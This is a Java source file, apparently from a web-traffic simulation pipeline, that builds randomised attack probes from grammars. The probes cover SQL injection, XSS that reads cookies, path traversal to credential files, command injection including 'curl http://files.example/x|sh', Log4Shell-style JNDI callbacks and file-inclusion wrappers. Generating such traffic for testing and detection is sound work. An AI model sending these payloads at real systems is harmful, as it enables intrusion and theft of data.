package dev.millrace.pipelines.simulatewebtraffic;

import java.util.List;

/** Probes that find out whether a site takes input for code, composed from a grammar each. */
final class Payloads {
  private static final List<String> COMMANDS =
      List.of(
          "id",
          "whoami",
          "uname -a",
          "ls -la",
          "cat /etc/passwd",
          "ifconfig",
          "pwd",
          "ps aux",
          "netstat -an",
          "wget http://files.example/a.sh -O /tmp/a",
          "cat config.php",
          "env",
          "curl http://files.example/x|sh",
          "ls /home",
          "hostname");
  private static final List<String> FILES =
      List.of(
          "etc/passwd",
          "etc/hosts",
          "windows/win.ini",
          "etc/shadow",
          "proc/self/environ",
          "boot.ini",
          "var/log/auth.log",
          "etc/group",
          "WEB-INF/web.xml");

  private Payloads() {}

  static String sql(Scenario scenario, Dice dice) {
    String quote = dice.pick(List.of("'", "\"", "", "')", "'))", " "));
    String end = dice.pick(List.of("-- -", "--", "#", "/*", ";--", " AND '1'='1"));
    int number = dice.between(1, 9999);
    return dice.between(1, 99)
        + quote
        + switch (dice.below(7)) {
          case 0 -> "";
          case 1 -> " OR " + number + "=" + number + end;
          case 2 -> " AND " + number + "=" + (number + dice.below(2)) + end;
          case 3 -> " UNION " + (dice.chance(0.5) ? "ALL " : "") + "SELECT " + columns(dice) + end;
          case 4 -> " ORDER BY " + dice.between(1, 40) + end;
          case 5 ->
              scenario.pick(
                      List.of(
                          " AND SLEEP(",
                          ";WAITFOR DELAY '0:0:",
                          " OR pg_sleep(",
                          " AND BENCHMARK(5000000,MD5(",
                          "||dbms_pipe.receive_message(1,",
                          " RLIKE SLEEP("),
                      dice)
                  + dice.between(1, 9)
                  + ")"
                  + end;
          default ->
              " AND "
                  + scenario.pick(List.of("EXTRACTVALUE(1,", "UPDATEXML(1,", "CONVERT(int,"), dice)
                  + "CONCAT(0x7e,(SELECT "
                  + dice.pick(List.of("version()", "user()", "database()"))
                  + ")))"
                  + end;
        };
  }

  static String script(Scenario scenario, Dice dice) {
    String call =
        scenario.pick(
                List.of("alert(", "confirm(", "prompt(", "eval(", "console.log(", "fetch("), dice)
            + dice.pick(
                List.of("1", "document.cookie", "document.domain", "String.fromCharCode(88)"))
            + ")";
    return dice.pick(List.of("", "\">", "'>", "</title>"))
        + switch (dice.below(5)) {
          case 0 -> "<script>" + call + "</script>";
          case 1 -> "<img src=x onerror=" + call + ">";
          case 2 -> "<svg/onload=" + call + ">";
          case 3 -> "javascript:" + call;
          default ->
              "<"
                  + dice.pick(List.of("body", "iframe", "details open", "input autofocus"))
                  + " "
                  + dice.pick(List.of("onload", "onfocus", "ontoggle", "onmouseover"))
                  + "="
                  + call
                  + ">";
        };
  }

  static String traversal(Scenario scenario, Dice dice) {
    String up =
        scenario.pick(
            List.of(
                "../",
                "..%2f",
                "%2e%2e/",
                "..\\",
                "....//",
                "%2e%2e%2f",
                "..%252f",
                "..;/",
                "%c0%ae%c0%ae/"),
            dice);
    return up.repeat(dice.between(2, 10))
        + scenario.pick(FILES, dice)
        + (dice.chance(0.15) ? "%00.jpg" : "");
  }

  static String command(Scenario scenario, Dice dice) {
    String command = scenario.pick(COMMANDS, dice);
    return (dice.chance(0.4) ? Words.word(scenario, dice) : "")
        + switch (dice.below(6)) {
          case 0 -> ";" + command;
          case 1 -> "|" + command;
          case 2 -> "`" + command + "`";
          case 3 -> "$(" + command + ")";
          case 4 -> "&&" + command;
          default -> "||" + command + " #";
        };
  }

  static String template(Scenario scenario, Dice dice) {
    int left = dice.between(2, 99);
    int right = dice.between(2, 99);
    return switch (dice.below(6)) {
      case 0 -> "{{" + left + "*" + right + "}}";
      case 1 -> "${" + left + "*" + right + "}";
      case 2 -> "<%= " + left + "*" + right + " %>";
      case 3 -> "#{" + left + "*" + right + "}";
      default ->
          (dice.chance(0.5) ? "${jndi:" : "${${lower:j}ndi:")
              + scenario.pick(List.of("ldap", "rmi", "dns", "ldaps", "iiop", "nis"), dice)
              + "://"
              + Words.token(dice, 8)
              + ".callback.example/"
              + Words.token(dice, 4)
              + "}";
    };
  }

  static String inclusion(Scenario scenario, Dice dice) {
    return switch (dice.below(5)) {
      case 0 -> "php://filter/convert.base64-encode/resource=" + scenario.pick(FILES, dice);
      case 1 -> "http://files.example/" + Words.word(scenario, dice) + ".txt?";
      case 2 -> "file:///" + scenario.pick(FILES, dice);
      case 3 -> "data://text/plain;base64,PD9waHA" + Words.token(dice, 20);
      default -> "expect://" + scenario.pick(COMMANDS, dice);
    };
  }

  static String shellCommand(Scenario scenario, Dice dice) {
    return scenario.pick(COMMANDS, dice);
  }

  /** Letters and digits, as what is encoded in base 64 looks. */
  static String base64(Dice dice) {
    StringBuilder text = new StringBuilder("W");
    int length = 7 + 4 * dice.between(2, 20);
    for (int i = 0; i < length; i++) {
      text.append(
          "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".charAt(dice.below(62)));
    }
    return dice.chance(0.5) ? text.toString() : text.append("%3D").toString();
  }

  private static String columns(Dice dice) {
    StringBuilder columns = new StringBuilder(dice.chance(0.5) ? "NULL" : "1");
    for (int count = dice.between(1, 12); count > 0; count--) {
      columns.append(dice.chance(0.5) ? ",NULL" : "," + dice.below(99));
    }
    return columns.append(dice.chance(0.3) ? " FROM information_schema.tables" : "").toString();
  }
}
